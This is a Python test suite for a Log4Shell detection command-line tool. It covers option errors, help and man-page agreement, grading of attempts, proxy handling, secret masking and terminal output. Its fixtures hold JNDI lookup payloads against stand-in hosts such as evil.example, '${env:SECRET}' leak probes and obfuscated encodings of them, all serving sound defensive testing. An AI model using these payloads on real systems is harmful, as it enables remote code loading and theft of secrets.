"""Commands, options, help, man pages, completion, exit statuses, and what each output shows."""
import csv
import gzip
import io
import json
import os
import re
import shutil
import subprocess

import cli_case
from cli_case import Case, attack, line

SHARE = os.environ.get("CALTROP_SHARE", "")
COMMANDS = ("up", "detect", "decoy", "scan", "explain", "affected", "why", "changed", "advisory", "attempts", "route", "control", "sbom", "vex", "asset", "policy", "sla", "acceptance", "rollout", "incident", "vendor", "report", "timeline", "store", "self-test", "version")


class Words(Case):
    def test_alone_unknown_and_help(self):
        done = self.run_cli(status=2)
        self.assertIn(b"usage: caltrop COMMAND", done.stderr)
        self.assertEqual(done.stdout, b"")
        done = self.run_cli("nosuch", status=2)
        self.assertEqual(done.stderr, b"caltrop: 'nosuch' is no command of caltrop. Try 'caltrop --help'.\n")
        for args in (("--help",), ("-h",), ("help",)):
            self.assertIn(b"detect", self.run_cli(*args, status=0).stdout)
        self.assertEqual(self.run_cli("help", "detect", status=0).stdout, self.run_cli("detect", "--help", status=0).stdout)
        self.assertTrue(self.run_cli("--version", status=0).stdout.startswith(b"caltrop "))

    def test_wrong_arguments_say_what_to_do(self):
        log = self.write("a.log", attack(1))
        for args, says in (
            (["--nosuch"], "--nosuch is no option"),
            (["--un", log], "--un is no option, or stands for several"),
            (["-x"], "-x is no option"),
            (["-vx"], "-x is no option"),
            (["--min-grade"], "--min-grade needs a value: GRADE"),
            (["-j"], "--jobs needs a value: N"),
            (["--json=1"], "--json takes no value"),
            (["--min-grade", "high"], "'high' is not one of rule, leak, dos, attempt, reach, exploit"),
            (["--min-grade", "none"], "is not one of"),
            (["--output", "xml"], "'xml' is not one of table, ecs, csv, sarif"),
            (["--log-format", "nosuch"], "see 'caltrop detect --help'"),
            (["--profile", "1.2.17"], "like 2.14.1"),
            (["--decode", "some"], "is not one of auto, none"),
            (["--since", "yesterday"], "is not a time like"),
            (["--since", "2h", "--until", "3h"], "--since is not before --until"),
            (["--state", ""], "--state '' names no file"),
            (["--trusted-proxy", "10.0.0.0/33"], "is not an address or a range"),
            (["-j", "0"], "1 to 64"),
            (["--callbacks", self.path("none"), log], "--callbacks " + self.path("none")),
            (["--own-scanners", self.path("none"), log], "--own-scanners " + self.path("none")),
            (["--to", "file:" + self.path("o"), "--token-file", self.path("none"), log], "--token-file " + self.path("none")),
            (["--to", "file:" + self.path("o"), "--token-file", self.path(""), log], "Is a directory"),
            (["--to", "file:" + self.path("o"), "--token-file", self.write("blank", "\n"), log], "its first line is empty"),
            (["--own-scanners", self.path(""), log], "Is a directory"),
            (["--callbacks", self.path(""), log], "is a directory"),
            (["--json", "--output", "csv", log], "--output 'csv' asks for another output than --json before it"),
            (["--output", "csv", "--json", log], "--json asks for another output than --output 'csv' before it"),
            (["--output", "csv", "--output", "sarif", log], "--output 'sarif' asks for another output than --output 'csv' before it"),
        ):
            with self.subTest(args):
                done = self.run_cli("detect", *args, status=2)
                self.assertIn(says, done.stderr.decode())
                self.assertEqual(done.stdout, b"")
        self.assertIn(b"single quotes", self.run_cli("explain", status=2).stderr)
        self.assertIn(b"takes no arguments", self.run_cli("up", "x", status=2).stderr)
        done = self.run_cli("detect", "--indicators", self.path("no/where"), log, status=4)
        self.assertIn(b"--indicators", done.stderr)
        self.assertEqual(done.stdout, b"")  # said before hours of reading, not after
        for args, before in ((["asset", "list", "--json", "--output", "csv"], "--json"), (["timeline", "--output", "markdown", "--json"], "--output 'markdown'"),
                             (["scan", "--json", "--output", "csv", log], "--json")):
            self.assertIn("than %s before it" % before, self.run_cli(*args, status=2).stderr.decode())
        self.assertIn(b"than an option before", self.run_cli("decoy", "--dry-run", "--observe", "--answer", "all", status=2).stderr)
        self.events("--output", "ecs", "--log-format", "json", "--log-format", "auto", log, status=1)
        self.assertIn(b"'': No such file", self.run_cli("detect", "", status=3).stderr)

    def test_what_a_shell_took_is_not_called_harmless(self):
        done = subprocess.run(["bash", "-c", '"$0" explain "${jndi:ldap://h/a}"', cli_case.CALTROP], capture_output=True, env=self.env, check=False)
        self.assertEqual((done.returncode, done.stdout), (2, b""))
        self.assertIn(b"single quotes", done.stderr)
        self.assertIn(b"standard input is empty", self.run_cli("explain", "-", status=2).stderr)
        folder = os.open(self.path(""), os.O_RDONLY)
        self.assertIn(b"standard input: Is a directory", self.run_cli("explain", "-", stdin=folder, status=3).stderr)
        os.close(folder)
        self.assertIn(b"no lookup in it. If you typed one", self.run_cli("explain", "GET /", status=0).stdout)
        self.assertNotIn(b"If you typed", self.run_cli("explain", "-", stdin=b"GET /", status=0).stdout)
        self.assertNotIn(b"If you typed", self.run_cli("explain", "%24%7Bjndi:ldap://h/a%7D", status=1).stdout)
        leak = self.run_cli("explain", "${env:SECRET}${sys:java.version}", status=1).stdout.decode()
        self.assertIn("= caltropvalue, which stands for a value of the host", leak)
        self.assertIn("2.14.1        no JNDI            no JNDI            no JNDI", leak)  # not "nothing": it leaks
        self.assertFalse([row for row in leak.splitlines() if len(row) > 80 and "looks up" not in row])
        self.assertIn("one JSON object", self.run_cli("explain", "--help", status=0).stdout.decode())

    def test_explain_undoes_every_layer(self):
        for layer, text in (("percent", "%24%7Bjndi:ldap://h.example/a%7D"), ("form", "%24{jndi:ldap://h.example/${date:'+'}b}"),
                            ("backslash", "\\u0024{jndi:ldap://h.example/a}"), ("html", "&#36;{jndi:ldap://h.example/a}"),
                            ("base64", "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0="), ("encoded_word", "=?utf-8?B?JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=?="),
                            ("haproxy", "$#7bjndi:ldap://h.example/a#7d"), ("sql", "SELECT '${jndi${date:'':''}ldap://h.example/a}'")):
            shown = self.run_cli("explain", text, status=1).stdout.decode()
            self.assertRegex(shown, rf"\n  1\. {layer} .*h\[\.\]example")
            self.assertIn("asks JNDI for ldap[:]//h[.]example/", shown)

    def test_exit_statuses(self):
        log, clean = self.write("a.log", attack(1)), self.write("clean.log", line())
        for status, args in ((0, ["detect", clean]), (1, ["detect", log]), (3, ["detect", log, self.path("gone")]), (1, ["explain", "${jndi:ldap://h/a}"]),
                             (0, ["explain", "nothing"]), (0, ["self-test"]), (0, ["version", "-v"]), (1, ["up", "--sample"]),
                             (3, ["detect", self.path("gone"), clean])):
            self.run_cli(*args, status=status)
        done = self.run_cli("detect", status=0)  # an empty pipe
        self.assertIn(b"standard input was empty", done.stderr)

    def test_help_man_page_and_completion_agree(self):
        all_help = self.run_cli("--help", status=0).stdout.decode()
        self.assertEqual(re.findall(r"^  ([a-z-]+)  ", all_help, re.M), list(COMMANDS))
        completion = self.run_cli("--generate", "completion", status=0).stdout.decode()
        self.assertEqual(re.search(r'= 1 \]; then\n\s+words="([^"]*)"', completion).group(1).split(), list(COMMANDS))
        front = self.run_cli("--generate", "man", status=0).stdout.decode()
        self.assertEqual(re.findall(r"^\.It Xr caltrop-([a-z-]+) 1$", front, re.M), list(COMMANDS))
        for command in COMMANDS:
            shown = self.run_cli(command, "--help", status=0).stdout.decode()
            self.assertFalse([text for text in shown.splitlines() + all_help.splitlines() if len(text) > 80])
            options = re.findall(r"^  (?:-\w, )?--([a-z-]+)", shown, re.M)
            page = self.run_cli("--generate", "man", command, status=0).stdout.decode()
            self.assertEqual([o.replace("\\-", "-") for o in re.findall(r"^\.It (?:Fl \w , )?Fl \\-([a-z\\-]+)", page, re.M)], options)
            words = re.search(r'^\s+%s\) words="([^"]*)"' % command, completion, re.M).group(1).split()
            self.assertEqual(words, ["--" + o for o in options])
            if SHARE:
                with open(SHARE + "/man/man1/caltrop-%s.1" % command) as f:
                    self.assertEqual(f.read(), page)
            if shutil.which("mandoc"):
                lint = subprocess.run(["mandoc", "-T", "lint", "-W", "warning"], input=page, text=True, capture_output=True, check=False)
                self.assertEqual(lint.stdout, "")
        with open(self.write("completion", completion)) as f:
            shell = "source %s; COMP_WORDS=(caltrop detect --min); COMP_CWORD=2; _caltrop; echo ${COMPREPLY[@]}; COMP_WORDS=(caltrop de); COMP_CWORD=1; _caltrop; echo ${COMPREPLY[@]}; COMP_WORDS=(caltrop detect --output ''); COMP_CWORD=3; _caltrop; echo ${COMPREPLY[@]}" % f.name
        done = subprocess.run(["bash", "-euc", shell], capture_output=True, text=True, check=True)
        self.assertEqual(done.stdout.splitlines(), ["--min-grade", "detect decoy", "table ecs csv sarif"])


class Options(Case):
    def setUp(self):
        super().setUp()
        payloads = ["${jndi:ldap://evil.example/a}", "${jndi:LDAP://evil.example/a}", "${jndi:ldap://evil.example/a", "${env:SECRET}", "plain"]
        self.log = self.write("a.log", "".join(line(n, p, minute=n) for n, p in enumerate(payloads)))

    def grades(self, *args):
        return [e["caltrop"]["grade"] for e in self.events(*args, self.log)]

    def test_min_grade_profile_and_decode(self):
        self.assertEqual(self.grades(), ["exploit", "reach", "attempt", "leak"])
        self.assertEqual(self.grades("--min-grade", "reach"), ["exploit", "reach"])
        self.assertEqual(self.grades("--min-grade", "exploit")[0], "exploit")
        self.assertEqual(self.grades("--profile", "2.17.1")[0], "attempt")
        self.assertNotIn("exploit", self.grades("--profile", "2.17.1"))
        encoded = self.write("e.log", line(1, path="?q=%24%7Bjndi:ldap://evil.example/a%7D"))
        self.assertEqual(len(self.events(encoded)), 1)
        self.assertEqual(self.events("--decode", "none", encoded), [])

    def test_times(self):
        for args, count in ((("--since", "2021-12-10T14:01:00Z"), 3), (("--until", "2021-12-10T14:01Z"), 1), (("--since", "2021-12-11"), 0),
                            (("--since", "2021-12-10T15:01:00+01:00", "--until", "2021-12-10T14:03:00Z"), 2), (("--since", "1d"), 0)):
            self.assertEqual(len(self.grades(*args)), count, args)
        bare = self.write("bare.log", "no time ${jndi:ldap://evil.example/a}\n")
        self.assertEqual(len(self.events("--since", "1h", bare)), 1)

    def test_trusted_proxy(self):
        text = '{"remote_addr":"10.0.0.9","http_x_forwarded_for":"%s","m":"${jndi:ldap://evil.example/a}"}\n' % "198.51.100.7, 203.0.113.5, 10.1.1.1"
        log = self.write("p.log", text)
        self.assertEqual(self.events(log)[0]["source"]["ip"], "10.0.0.9")
        self.assertEqual(self.events("--trusted-proxy", "10.0.0.0/8", log)[0]["source"]["ip"], "203.0.113.5")
        self.assertEqual(self.events("--trusted-proxy", "10.0.0.9", log)[0]["source"]["ip"], "10.1.1.1")
        for name, text in (  # what the attacker wrote goes before what the proxy appended, in one list or as a header of its own
            ("combined.log", '10.0.0.9 - - [10/Dec/2021:14:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "m" "${jndi:ldap://evil.example/a}, 203.0.113.5"\n'),
            ("caddy.log", '{"request":{"remote_ip":"10.0.0.9","headers":{"X-Forwarded-For":["${jndi:ldap://evil.example/a}","203.0.113.5"]}}}\n'),
            ("many.log", '{"remote_addr":"10.0.0.9","m":"${jndi:ldap://evil.example/a}","x_forwarded_for":[' + "".join('"a%d",' % n for n in range(7000)) + '"203.0.113.5"]}\n'),
            ("iis.log", "#Fields: date time c-ip cs-uri-stem X-Forwarded-For\n2021-12-10 14:00:00 10.0.0.9 / ${jndi:ldap://evil.example/a},+203.0.113.5\n"),
        ):
            with self.subTest(name):
                self.assertEqual(self.events("--trusted-proxy", "10.0.0.0/8", self.write(name, text), status=1)[0]["source"]["ip"], "203.0.113.5")

    def test_indicators_callbacks_and_own_scanners(self):
        log = self.write("m.log", "".join(attack(n, h) for n, h in enumerate(("a.one.example", "b.one.example", "192.0.2.77", "X.Two.example", "[2001:db8::7]"))))
        indicators = self.path("callbacks.txt")
        self.run_cli("detect", "-q", "--indicators", indicators, log, status=1)
        with open(indicators) as f:
            rows = [text.rstrip("\n").split("\t") for text in f if not text.startswith("#")]
        self.assertIn(["ldap", "a.one.example", "1389"], rows)
        self.assertEqual(len(rows), 5)
        dns = self.write("dns.log", "client 10.0.0.3 query: x.TWO.example. IN A\n10:00 IP 10.0.0.4.5353 > 192.0.2.77.1389: Flags\ntcp 2001:0db8:0:0:0:0:0:7 1389\n")
        for output in ("ecs", "csv", "sarif"):
            done = self.run_cli("detect", "-q", "--output", output, "--callbacks", dns, log, status=1)
            if output == "ecs":
                events = [json.loads(text) for text in done.stdout.splitlines()]
                self.assertEqual([e["caltrop"].get("contacted", False) for e in events], [True] * 3 + [False] * 2)
                self.assertEqual(sorted(e["caltrop"]["line"] for e in events), [1, 2, 3, 4, 5])
            elif output == "csv":
                rows = list(csv.DictReader(io.StringIO(done.stdout.decode())))
                self.assertEqual([row["line"] for row in rows], ["3", "4", "5", "1", "2"])
            else:
                self.assertEqual(len(json.loads(done.stdout)["runs"][0]["results"]), 5)
        nobody = self.run_cli("detect", "-q", "--output", "sarif", "--callbacks", self.write("none", "x.example\n"), log, status=1)
        self.assertEqual(len(json.loads(nobody.stdout)["runs"][0]["results"]), 5)
        table = self.run_cli("detect", "--callbacks", dns, log, status=1).stdout.decode()
        self.assertEqual(table.count("CONTACTED"), 3)
        half = self.write("dns.gz", gzip.compress(b"query: b.one.example\n" + os.urandom(40_000).hex().encode())[:20_000])
        done = self.run_cli("detect", "--callbacks", half, log, status=3)  # a log that is being written, or a broken one
        self.assertEqual(done.stdout.count(b"CONTACTED"), 1)
        self.assertIn(b"dns.gz: ends early at byte 20000: a callback not marked as contacted proves nothing", done.stderr)
        own = self.write("own", "# ours\n*.ONE.example # scanner\n")
        labels = [e["caltrop"].get("scanner") for e in self.events("--own-scanners", own, log)]
        self.assertEqual(labels, ["own scanner", "own scanner", None, None, None])
        self.assertIn("(own scanner)", self.run_cli("detect", "--own-scanners", own, log, status=1).stdout.decode())

    def test_masking(self):
        secret = "hunter2hunter2"
        log = self.write("s.log", line(1, path="?token=%s&q=${jndi:ldap://evil.example/a}" % secret))
        signed_in = self.write("u.log", '192.0.2.1 - - [10/Dec/2021:14:00:00 +0000] "GET http://u:%s@shop.example/x HTTP/1.1" 200 1 "-" "${jndi:ldap://evil.example/a}"\n' % secret)
        self.assertEqual(self.events(signed_in)[0]["url"]["domain"], "shop.example")
        for output in ("table", "ecs", "csv", "sarif"):
            self.assertNotIn(secret, self.run_cli("detect", "-v", "--output", output, signed_in, status=1).stdout.decode())
            self.assertNotIn(secret, self.run_cli("detect", "-v", "--output", output, log, status=1).stdout.decode())
            shown = self.run_cli("detect", "-v", "--unmasked", "--output", output, log, status=1).stdout.decode()
            self.assertEqual(secret in shown, output != "table", output)  # the line for people shows the normal form

    def test_csv_header_and_order(self):
        with_header = self.run_cli("detect", "--output", "csv", self.log, status=1).stdout
        without = self.run_cli("detect", "--output", "csv", "--no-header", self.log, status=1).stdout
        self.assertEqual(with_header.split(b"\n", 1)[1], without)
        rows = list(csv.DictReader(io.StringIO(with_header.decode())))
        self.assertEqual([row["grade"] for row in rows], ["exploit", "reach", "attempt", "leak"])

    def test_summary(self):
        text = self.run_cli("detect", self.log, status=1).stdout.decode()
        for part in ("5 lines", "1 source", "4 attempts: 1 exploit, 1 reach, 1 attempt, 1 leak", "would fire on 2.0-beta9-2.14.1", "would reach JNDI on",
                     "answered 4 x 2xx", "What these logs cannot show:", "per minute", "evil[.]example"):
            self.assertIn(part, text)
        waf = self.write("w.log", '{"action":"BLOCK","httpRequest":{"clientIp":"192.0.2.1","uri":"/${jndi:ldap://e.example/a}"},"terminatingRuleId":"x"}\n')
        self.assertIn("1 blocked by a WAF, says the log", self.run_cli("detect", waf, status=1).stdout.decode())
        self.assertEqual(self.run_cli("detect", "-q", self.log, status=1).stdout, b"")
        self.assertIn("No attempt found", self.run_cli("detect", self.write("clean", line()), status=0).stdout.decode())
        out = self.run_cli("detect", "--since", "2021-12-10T14:02:00Z", self.log, status=1).stdout.decode()
        self.assertIn("2 suspicious lines outside --since and --until left out", out)
        self.assertNotIn("UTF-8", out)
        odd = self.write("odd.log", b"\xff no lookup\0\n" + attack(1).encode() + b"\xff" + attack(2).encode() + b"\xff\0" + attack(3).encode())
        out = self.run_cli("detect", odd, status=1).stdout.decode()
        self.assertIn("\n\n2 suspicious lines hold bytes that are no UTF-8; they are shown as \\xHH.\n1 suspicious line holds NUL bytes.\n", out)


class Terminals(Case):
    def test_columns_and_colour(self):
        log = self.write("a.log", "".join(attack(n, "a-rather-long-name-%d.of-a-host.evil.example" % n) for n in range(30)))
        env = dict(self.env, TERM="xterm-256color")
        names = self.write("names", "evil.example\n")
        for columns in (40, 63, 64, 80, 200):
            for args in (["detect", log], ["detect", "-v", log], ["up", "--sample"], ["detect", "--callbacks", names, log]):
                shown, status = cli_case.on_terminal(args, columns, env)
                self.assertEqual(status, 1)
                self.assertIn("\x1b[", shown)
                plain = re.sub(r"\x1b\[[0-9;]*[mK]", "", shown)
                self.assertEqual([t for t in plain.replace("\r", "\n").splitlines() if len(t) > columns], [])
        for quiet in (dict(env, NO_COLOR="1"), dict(env, TERM="dumb")):
            shown, _ = cli_case.on_terminal(["detect", log], 80, quiet)
            self.assertNotIn("\x1b[1", shown)
            self.assertNotIn("\x1b[3", shown)
        done = self.run_cli("detect", "-v", log, status=1, env=env)
        self.assertNotIn(b"\x1b", done.stdout + done.stderr)

    def test_an_explanation_fits_any_terminal(self):
        text = "%24%7B" + "${lower:" * 20 + "j" + "}" * 20 + "ndi:${lower:l}dap://h.${env:HOST:-x}.a-rather-long-name.of-a-host.evil.example:1389/a b \u00e9\x01c%7D"
        env = dict(self.env, TERM="xterm-256color", LC_ALL="C.UTF-8")
        whole = self.run_cli("explain", text, status=1, env=env).stdout.decode()
        for columns in (40, 71, 72, 80, 200):
            shown, status = cli_case.on_terminal(["explain", text], columns, env)
            rows = shown.replace("\r\n", "\n").splitlines()
            self.assertEqual(status, 1)
            self.assertEqual([r for r in rows if len(r) > columns], [], columns)
            self.assertEqual([r for r in rows if re.search(r"\\x?[0-9a-f]?$|\[[.:]?$", r)], [], columns)  # no escape is cut in two
            got, want = ("".join(part.split("\nLog4j ")[0].split()) for part in ("\n".join(rows), whole))
            self.assertEqual(got, want)
            self.assertTrue(any(re.match(r"2\.13\.0 +%s" % ("fires +fires +fires" if columns < 72 else "would fire +would fire +would fire"), r) for r in rows), columns)
        self.assertGreater(max(len(r) for r in whole.splitlines()), 200)
        shown, _ = cli_case.on_terminal(["explain", "--json", text], 40, env)
        self.assertEqual(len(shown.splitlines()), 1)

    def test_an_attack_is_seen_on_any_terminal(self):
        log = self.write("a.log", line(1, "${jndi:ldap://evil.example:1389/a}").replace("192.0.2.1", "2001:db8:1111:2222:3333:4444:5555:6666"))
        for columns in (40, 60, 80, 100, 120, 200):
            shown, _ = cli_case.on_terminal(["detect", "-q", "-v", log], columns, dict(self.env, TERM="xterm", NO_COLOR="1"))
            rows = shown.replace("\r\n", "\n").splitlines()
            self.assertFalse([r for r in rows if len(r) > columns], columns)
            self.assertIn("exploit", shown)
            self.assertIn("2.0-beta9-2.14.1", shown)
            self.assertIn("\\x24{jndi:ldap[:]//evil[.]", shown)
        self.assertEqual(len(rows), 1)
        self.assertEqual(self.run_cli("detect", "-q", "-v", log, status=1).stdout.count(b"\n"), 1)

    def test_progress_and_attempts_share_a_terminal(self):
        log = self.write("a-log-of-a-long-name-that-fills-a-row.log", (attack(1) + line(2) * 1000) * 300)
        for args in (["-v"], ["--json"], ["--output", "csv"]):
            shown, status = cli_case.on_terminal(["detect", "-j", "1", *args, log], 60, dict(self.env, TERM="xterm", NO_COLOR="1"))
            self.assertEqual(status, 1)
            progress = re.findall("\r\x1b\\[K([^\r\n\x1b]+)(\r\x1b\\[K|$)?", shown)
            progress = [(text, end) for text, end in progress if " MB/s  " in text]
            self.assertTrue(progress)
            for text, end in progress:  # each is taken back before anything else, and stands on one row
                self.assertLess(len(text), 60)
                self.assertEqual(end, "\r\x1b[K", text)
        shown, _ = cli_case.on_terminal(["detect", "-j", "1", log], 60, dict(self.env, TERM="dumb"))
        self.assertNotIn("\x1b", shown)
        self.assertNotIn("MB/s", shown)

    def test_a_chart_for_terminals_without_blocks(self):
        log = self.write("a.log", "".join(line(n, "${jndi:ldap://evil.example/a}", minute=m) for m in range(9) for n in range(m)))
        for env, chart in (({"LC_ALL": "C"}, "|.:-=+*#@|"), ({"LC_ALL": "", "LANG": "de_DE.ISO-8859-1"}, "|.:-=+*#@|"),
                           ({"LC_ALL": "en_US.utf8"}, "|\u2581\u2582\u2583\u2584\u2585\u2586\u2587\u2588|"),
                           ({"LC_ALL": "", "LC_CTYPE": "", "LANG": ""}, "|\u2581\u2582\u2583\u2584\u2585\u2586\u2587\u2588|")):
            out = self.run_cli("detect", log, status=1, env=dict(self.env, **env)).stdout.decode()
            self.assertIn("attempts  %s  max 8" % chart.strip("|"), out)

    def test_complaints_once_on_a_terminal(self):
        shown, status = cli_case.on_terminal(["detect", self.write("a.log", attack(1)), self.path("gone.log")], 100, dict(self.env, TERM="xterm"))
        self.assertEqual(status, 3)
        self.assertEqual(shown.count("gone.log"), 1)

    def test_up(self):
        shown = self.run_cli("up", "--sample", status=1).stdout.decode()
        self.assertTrue(shown.startswith("SAMPLE LOG (made up)"))
        self.assertIn("exploit", shown)
        self.assertNotIn(b"THIS HOST'S FILES", self.run_cli("up", "--seconds", "0").stdout)
        done = self.run_cli("up", "--seconds", "1")
        self.assertIn(done.returncode, (0, 1, 3))
        self.assertIn("Looked at /: ", done.stdout.decode())
        text = done.stdout.decode()
        self.assertIn("Kept in %s" % (self.dir / "data" / "caltrop.db"), text)
        self.assertEqual(len(self.run_cli("asset", "list", "--json", status=0).stdout.splitlines()), 1)
        done = self.run_cli("up", "--seconds", "1", "--data-dir", self.path("other"))
        self.assertIn(b"Kept in " + self.path("other/caltrop.db").encode(), done.stdout)
        self.assertTrue(text.startswith("THIS HOST'S LOGS"))
        self.assertIn("SAMPLE LOG (made up, to show what an attack looks like; it does not count)", text)


if __name__ == "__main__":
    cli_case.main()
